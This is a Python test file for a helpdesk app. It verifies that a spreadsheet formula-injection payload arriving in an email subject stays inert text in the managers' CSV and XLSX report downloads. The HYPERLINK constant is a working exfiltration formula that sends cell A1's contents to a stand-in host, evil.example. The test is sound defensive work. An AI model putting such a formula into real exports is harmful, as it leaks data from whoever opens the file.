"""A hostile subject from a mail stays inert in the managers' CSV and XLSX downloads."""

import csv
import io
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from helpdesk.mail.ingest import ingest_raw
from helpdesk.models import Mailbox, Role, Ticket
from helpdesk.seed import seed_demo
from tests.support.enquiries import COMPLETE_EN, enquiry

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
PERIOD = "?date_from=2026-11-01&date_to=2026-11-30"


def test_a_formula_in_a_subject_is_text_in_the_downloads(
    client, db_session, frozen_now, make, login_as
):
    seed_demo()
    mailbox = db_session.scalar(select(Mailbox).where(Mailbox.name == "system"))
    outcome = ingest_raw(enquiry(COMPLETE_EN, subject=HYPERLINK), mailbox=mailbox)
    ticket = db_session.get(Ticket, outcome.ticket_id)
    assert ticket.subject == HYPERLINK
    ticket.first_response_breached = True
    db_session.flush()
    login_as(make.user(Role.MANAGER))

    response = client.get("/reports/breaches.csv" + PERIOD)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][0] == ticket.number and rows[1][3] == "'" + HYPERLINK

    workbook = client.get("/reports/report.xlsx" + PERIOD)
    assert workbook.status_code == 200
    with zipfile.ZipFile(io.BytesIO(workbook.data)) as archive:
        names = [n for n in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert names and not [n for n in names if b"<f>" in archive.read(n)]
    sheet = load_workbook(io.BytesIO(workbook.data))["breaches"]
    (subject,) = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert subject.data_type == "s"
